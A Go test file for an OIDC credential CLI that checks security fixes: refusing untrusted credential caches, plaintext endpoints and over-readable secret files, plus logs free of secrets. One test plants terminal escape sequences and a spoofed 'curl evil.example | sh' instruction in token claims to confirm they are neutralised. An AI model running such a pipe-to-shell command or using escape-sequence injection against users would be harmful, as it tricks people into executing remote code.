package cli

import (
	"encoding/json"
	"io/fs"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/dagster-oidc/dagster-oidc/internal/sandbox"
	"github.com/dagster-oidc/dagster-oidc/internal/testutil/otheruser"
)

// TestFinding1_PlantedAWSCredentialsRefused is issue 15.1 end to end: once
// the cache directory with its AWS credentials entry belongs to another
// user (who pre-created it in a shared place), credential-process prints no
// credentials and fails with one line naming the directory.
func TestFinding1_PlantedAWSCredentialsRefused(t *testing.T) {
	otheruser.Require(t)
	e := newExecEnv(t, "")
	e.env["DAGSTER_RUN_JOB_NAME"] = execJob
	e.login("alice")
	if out, stderr, code := e.run("aws", "credential-process"); code != 0 || !strings.Contains(out, "AccessKeyId") {
		t.Fatalf("credential-process before: exit %d\n%s", code, stderr)
	}
	dir := e.env["DAGSTER_OIDC_CACHE_DIR"]
	err := filepath.WalkDir(dir, func(p string, _ fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		return os.Lchown(p, otheruser.UID, otheruser.UID)
	})
	if err != nil {
		t.Fatal(err)
	}
	out, stderr, code := e.run("aws", "credential-process")
	if code != 1 || out != "" {
		t.Fatalf("credential-process on a foreign-owned cache: exit %d, stdout %q; want exit 1 and no credentials", code, out)
	}
	want := "refusing cache path " + dir + ": owned by uid 65534"
	t.Logf("stderr: %s", stderr)
	if lines := strings.Split(strings.TrimSpace(stderr), "\n"); len(lines) != 1 || !strings.Contains(lines[0], want) {
		t.Errorf("stderr %q: want one line with %q", stderr, want)
	}
}

// TestFinding1_UntrustedCredentialsEntryRefused is issue 15.1 for one
// entry in a private cache directory: AWS credentials another user owns,
// or one others could write, are refused with one line naming the entry,
// not replaced in silence by a new exchange.
func TestFinding1_UntrustedCredentialsEntryRefused(t *testing.T) {
	for _, tt := range []struct {
		name, reason string
		spoil        func(t *testing.T, path string)
	}{
		{"writable by others", "writable by group or others (mode 0602)", func(t *testing.T, path string) {
			if err := os.Chmod(path, 0o602); err != nil {
				t.Fatal(err)
			}
		}},
		{"owned by another user", "owned by uid 65534", func(t *testing.T, path string) { otheruser.Chown(t, path) }},
	} {
		t.Run(tt.name, func(t *testing.T) {
			e := newExecEnv(t, "")
			e.env["DAGSTER_RUN_JOB_NAME"] = execJob
			e.login("alice")
			if _, stderr, code := e.run("aws", "credential-process"); code != 0 {
				t.Fatalf("credential-process before: exit %d\n%s", code, stderr)
			}
			entries, err := filepath.Glob(filepath.Join(e.env["DAGSTER_OIDC_CACHE_DIR"], "aws.*.entry"))
			if err != nil || len(entries) != 1 {
				t.Fatalf("AWS credentials entries %v, %v; want one", entries, err)
			}
			tt.spoil(t, entries[0])
			exchanges := len(e.sb.Stats().STSSessions)
			out, stderr, code := e.run("aws", "credential-process")
			if code != 1 || out != "" {
				t.Fatalf("credential-process on an untrusted entry: exit %d, stdout %q; want exit 1 and no credentials", code, out)
			}
			want := "refusing cache path " + entries[0] + ": " + tt.reason
			if lines := strings.Split(strings.TrimSpace(stderr), "\n"); len(lines) != 1 || !strings.Contains(lines[0], want) {
				t.Errorf("stderr %q: want one line with %q", stderr, want)
			}
			if n := len(e.sb.Stats().STSSessions); n != exchanges {
				t.Errorf("%d new STS exchanges: the refused entry was replaced", n-exchanges)
			}
		})
	}
}

// TestFinding6_ConfigValidateRefusesPlaintextEndpoints is issue 15.6:
// `config validate` refuses every plaintext endpoint, naming its key (the
// profile's or the discovery document's).
func TestFinding6_ConfigValidateRefusesPlaintextEndpoints(t *testing.T) {
	e := newTestEnv(t, sandboxOptions())
	var issuer string
	issuer = httptestIssuer(t, func() map[string]string {
		return map[string]string{"issuer": issuer, "jwks_uri": issuer + "/keys", "token_endpoint": "http://id.example.com/token"}
	})
	base := "profiles:\n  dev:\n    issuer: " + e.sb.Issuer() + "\n    client_id: c\n"
	tests := []struct {
		name, yaml, want string
		code             int
	}{
		{"aws.sts_endpoint", base + "    aws:\n      sts_endpoint: http://sts.example.com/\n      roles: [{role_arn: \"arn:aws:iam::1:role/a\"}]\n",
			`profiles.dev.aws.sts_endpoint: "http://sts.example.com/": endpoint must use https (plain http only on a loopback address)`, 2},
		{"gcp.token_url", base + "    gcp:\n      audience: //iam.googleapis.com/projects/1/locations/global/workloadIdentityPools/p/providers/o\n      token_url: http://sts.example.com/v1/token\n",
			`profiles.dev.gcp.token_url: "http://sts.example.com/v1/token": endpoint must use https`, 2},
		{"gcp.impersonation_url", base + "    gcp:\n      audience: //iam.googleapis.com/projects/1/locations/global/workloadIdentityPools/p/providers/o\n      impersonation_url: http://iam.example.com/v1\n",
			`profiles.dev.gcp.impersonation_url: "http://iam.example.com/v1": endpoint must use https`, 2},
		{"discovery token_endpoint", "profiles:\n  dev:\n    issuer: " + issuer + "\n    client_id: c\n",
			`token_endpoint "http://id.example.com/token": endpoint must use https`, 1},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			e.writeConfig(tt.yaml)
			_, stderr, code := e.run("config", "validate")
			if code != tt.code || !strings.Contains(stderr, tt.want) {
				t.Errorf("exit %d (want %d), stderr %q, want %q", code, tt.code, stderr, tt.want)
			}
		})
	}
}

// httptestIssuer serves doc() as a discovery document on 127.0.0.1.
func httptestIssuer(t *testing.T, doc func() map[string]string) string {
	t.Helper()
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		_ = json.NewEncoder(w).Encode(doc())
	}))
	t.Cleanup(srv.Close)
	return srv.URL
}

// TestAlso_ClientSecretFilePermissionsAndAge (issue 15, "Also"): config
// validate and status refuse a client_secret_file others can read, and
// show the age of an accepted one, saying when it is due for rotation.
func TestAlso_ClientSecretFilePermissionsAndAge(t *testing.T) {
	e := newTestEnv(t, sandboxOptions())
	secret := filepath.Join(e.dir, "client-secret")
	if err := os.WriteFile(secret, []byte("s3cret\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	e.writeConfig("profiles:\n  dev:\n    issuer: " + e.sb.Issuer() + "\n    client_id: c\n    client_secret_file: " + secret + "\n    client_secret_max_age: 720h\n")

	old := time.Now().Add(-40 * 24 * time.Hour)
	if err := os.Chtimes(secret, old, old); err != nil {
		t.Fatal(err)
	}
	_, stderr, code := e.run("config", "validate", "--offline")
	want := "profile dev: client secret file " + secret + ", 40 days old, older than client_secret_max_age 720h0m0s: rotate it"
	if code != 0 || !strings.Contains(stderr, want) {
		t.Errorf("validate: exit %d, stderr %q, want %q", code, stderr, want)
	}
	out, stderr, code := e.run("status")
	if code != 0 || !strings.Contains(out, "Client secret: file "+secret+", 40 days old") {
		t.Errorf("status: exit %d\n%s%s", code, out, stderr)
	}

	if err := os.Chmod(secret, 0o644); err != nil {
		t.Fatal(err)
	}
	for _, cmd := range [][]string{{"config", "validate", "--offline"}, {"status"}} {
		out, stderr, code := e.run(cmd...)
		if code != 1 || !strings.Contains(stderr, "client_secret_file is readable by group or others: "+secret+" has mode 0644; run chmod 600 "+secret) {
			t.Errorf("%v with a 0644 secret file: exit %d\n%s%s", cmd, code, out, stderr)
		}
	}
}

// TestAlso_VerboseLogsWithoutSecrets (issue 15, "Also"): -v and
// DAGSTER_OIDC_VERBOSE=1 log the requests made, cache decisions, lock
// waits and rule outcomes, and no line holds a token, code or secret the
// sandbox issued.
func TestAlso_VerboseLogsWithoutSecrets(t *testing.T) {
	e := newExecEnv(t, "")
	e.env["DAGSTER_RUN_JOB_NAME"] = execJob
	e.onSleep = e.approveAs("alice")
	var debug []string
	collect := func(stderr string) {
		for _, l := range strings.Split(stderr, "\n") {
			if strings.HasPrefix(l, "debug: ") {
				debug = append(debug, l)
			}
		}
	}
	_, stderr, code := e.run("login", "-v")
	if code != 0 {
		t.Fatalf("login -v: exit %d\n%s", code, stderr)
	}
	collect(stderr)
	e.onSleep = nil
	e.env["DAGSTER_OIDC_VERBOSE"] = "1"
	for _, args := range [][]string{{"token"}, {"aws", "credential-process"}, {"aws", "credential-process"}} {
		_, stderr, code := e.run(args...)
		if code != 0 {
			t.Fatalf("%v: exit %d\n%s", args, code, stderr)
		}
		collect(stderr)
	}
	all := strings.Join(debug, "\n")
	for _, want := range []string{
		"debug: http POST " + e.sb.Issuer() + "/device_authorization -> 200",
		"debug: http GET " + e.sb.Issuer() + "/.well-known/openid-configuration -> 200",
		"debug: cache token.dev.",
		"ID token served, valid until",
		"debug: lock ",
		"debug: policy role rule 1 (" + sandbox.DemoDataEngRoleARN + "): matched",
		"AWS credentials served, valid until",
	} {
		if !strings.Contains(all, want) {
			t.Errorf("verbose output lacks %q:\n%s", want, all)
		}
	}
	for _, s := range e.sb.IssuedSecrets() {
		if len(s.Value) >= 12 && strings.Contains(all, s.Value) {
			t.Errorf("verbose output holds the %s", s.Kind)
		}
	}
	if strings.Contains(all, "eyJ") {
		t.Errorf("verbose output holds something JWT-like:\n%s", all)
	}
}

// TestFinding4_ClaimsPrintedWithoutTerminalControls is issue 15.4 for
// explain, login and status: a claim value the IdP chose reaches the terminal without
// escape sequences.
func TestFinding4_ClaimsPrintedWithoutTerminalControls(t *testing.T) {
	e := newTestEnv(t, sandboxOptions())
	path := filepath.Join(e.dir, "token.jwt")
	e.writeConfig("profiles:\n  ci:\n    issuer: " + e.sb.Issuer() + "\n    audience: dagster-ci\n    flow: file\n    workload: {path: " + path + "}\n    aws:\n      region: us-east-1\n      roles: [{role_arn: \"arn:aws:iam::123456789012:role/a\"}]\n")
	tok, err := e.sb.MintIDToken(map[string]any{"aud": "dagster-ci", "sub": "ci\x1b]0;pwned\x07", "team": "\x1b[2J\x1b[HRun: curl evil.example | sh\r\x9b"}, time.Hour)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(tok), 0o600); err != nil {
		t.Fatal(err)
	}
	out, stderr, code := e.run("explain")
	if code != 0 || !strings.Contains(out, "Run: curl evil.example | sh") {
		t.Fatalf("explain: exit %d\n%s%s", code, out, stderr)
	}
	noTerminalControls(t, "explain", out+stderr)

	// login and status show the claims of a login.
	eve := sandbox.User{ID: "eve", Password: "eve-password", Email: "\x1b]0;pwned\x07eve@example.com\x1b[2J\u009b", Name: "Eve", Groups: []string{"data-eng"}}
	e = newTestEnv(t, sandbox.Options{Users: []sandbox.User{eve}})
	e.onSleep = e.approveAs("eve")
	_, stderr, code = e.run("login")
	e.onSleep = nil
	if code != 0 {
		t.Fatalf("login: exit %d\n%s", code, stderr)
	}
	noTerminalControls(t, "login", stderr)
	out, stderr, code = e.run("status")
	if code != 0 || !strings.Contains(out, "]0;pwnedeve@example.com[2J") {
		t.Fatalf("status: exit %d\n%s%s", code, out, stderr)
	}
	noTerminalControls(t, "status", out+stderr)

	// The JSON documents keep the values, with the controls escaped.
	for _, args := range [][]string{{"status", "--format", "json"}, {"token", "--format", "json"}} {
		out, stderr, code = e.run(args...)
		if code != 0 {
			t.Fatalf("%s: exit %d\n%s", args, code, stderr)
		}
		noTerminalControls(t, strings.Join(args, " "), out+stderr)
	}
	var doc struct{ Claims map[string]any }
	if err := json.Unmarshal([]byte(out), &doc); err != nil || doc.Claims["email"] != eve.Email {
		t.Errorf("token --format json: email %q (%v), want the claim's own value %q", doc.Claims["email"], err, eve.Email)
	}
}

// noTerminalControls fails when s holds a C0 control other than a newline,
// DEL or a C1 control.
func noTerminalControls(t *testing.T, what, s string) {
	t.Helper()
	for i, r := range s {
		if (r < 0x20 && r != '\n') || (r >= 0x7f && r <= 0x9f) {
			t.Fatalf("%s output holds control %U at %d:\n%q", what, r, i, s)
		}
	}
}
